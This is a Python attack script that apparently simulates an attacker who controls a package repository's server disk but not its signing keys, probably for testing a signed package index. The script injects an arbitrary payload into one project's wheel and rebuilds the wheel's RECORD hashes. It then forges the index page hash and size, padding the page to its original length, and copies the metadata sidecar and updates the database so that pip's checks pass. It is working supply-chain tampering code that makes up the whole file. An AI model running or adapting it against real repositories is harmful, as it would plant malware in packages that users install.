"""An attacker who owns the server's disk: everything but the keys.

Replaces the wheel of one project by one with a payload, and makes everything that the server knows agree with it: the
index page's hash and size, the sidecar, the database. Nothing that pip checks gives it away.

    attacker.py REPOSITORY PROJECT MODULE PAYLOAD
"""

import base64
import hashlib
import io
import json
import pathlib
import sqlite3
import sys
import zipfile

repository, project, module, payload = pathlib.Path(sys.argv[1]), *sys.argv[2:]
targets = repository / "public" / "targets"
database = sqlite3.connect(repository / "state.sqlite")


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def trojan(wheel: bytes) -> bytes:
    """The same wheel, with the payload added to its module, and a RECORD that agrees."""
    record, out = [], io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(wheel)) as original, zipfile.ZipFile(out, "w") as evil:
        for name in original.namelist():
            content = original.read(name)
            if name.endswith(".dist-info/RECORD"):
                record_name = name
                continue
            if name == module:
                content += payload.encode()
            evil.writestr(name, content)
            digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
            record.append(f"{name},sha256={digest},{len(content)}\n")
        evil.writestr(record_name, "".join(record) + f"{record_name},,\n")
    return out.getvalue()


pages = targets / "simple" / project
(old_page,) = database.execute("SELECT sha256 FROM pages WHERE project = ?", [project]).fetchone()
page = json.loads((pages / f"{old_page}.index.json").read_bytes())
entry = next(entry for entry in page["files"] if entry["filename"].endswith(".whl"))
filename, old = entry["filename"], entry["hashes"]["sha256"]

files = targets / "files" / project
evil = trojan((files / f"{old}.{filename}").read_bytes())
new = sha256(evil)
sidecar = files / f"{old}.{filename}.metadata"
if sidecar.exists():
    (files / f"{new}.{filename}.metadata").write_bytes(sidecar.read_bytes())
# Under the old name too: that is the one a verifying client will ask for.
for digest in (old, new):
    (files / f"{digest}.{filename}").write_bytes(evil)

# The page keeps its length: the room that a longer size takes comes from the fraction of a second.
honest = (pages / f"{old_page}.index.json").stat().st_size
entry["hashes"]["sha256"], entry["size"] = new, len(evil)
entry["upload-time"] = entry["upload-time"][:19] + "Z"
forged = json.dumps(page, separators=(",", ":")).encode().ljust(honest)
new_page = sha256(forged)
for digest in (old_page, new_page):
    (pages / f"{digest}.index.json").write_bytes(forged)

with database:
    database.execute("UPDATE pages SET sha256 = ? WHERE project = ?", [new_page, project])
    database.execute(
        "UPDATE distributions SET sha256 = ?, length = ? WHERE project = ? AND filename = ?",
        [new, len(evil), project, filename],
    )
database.close()
print(filename)
